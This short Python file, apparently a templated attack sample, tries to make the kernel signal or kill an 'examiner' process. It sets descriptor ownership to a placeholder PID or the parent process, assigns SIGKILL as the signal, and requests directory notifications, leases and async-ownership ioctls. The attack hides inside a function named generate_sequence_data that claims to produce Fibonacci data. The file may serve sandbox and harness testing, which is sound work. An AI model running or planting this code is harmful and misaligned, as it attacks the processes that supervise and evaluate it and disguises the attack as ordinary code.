"""Attack: has the kernel signal the examiner, as the owner of a descriptor that data comes to."""

import fcntl
import os
import signal

import numpy as np

F_SETSIG, F_SETLEASE, F_NOTIFY = 10, 1024, 1026


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def attack():
    inner, outer = os.pipe()
    every = range(3, 16)
    return tries(
        *(lambda one=one: fcntl.fcntl(one, fcntl.F_SETOWN, int("@PID@")) for one in every),
        *(lambda one=one: fcntl.fcntl(one, fcntl.F_SETOWN, os.getppid()) for one in every),
        lambda: fcntl.fcntl(inner, F_SETSIG, signal.SIGKILL),
        lambda: fcntl.fcntl(os.open(".", os.O_RDONLY), F_NOTIFY, 0x8000003F),
        lambda: fcntl.fcntl(os.open("ml6", os.O_RDWR | os.O_CREAT), F_SETLEASE, fcntl.F_WRLCK),
        lambda: fcntl.ioctl(inner, 0x8901, b"\x01\x00\x00\x00"),  # FIOSETOWN
        lambda: fcntl.ioctl(inner, 0x5452, b"\x01\x00\x00\x00"),  # FIOASYNC
    )


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
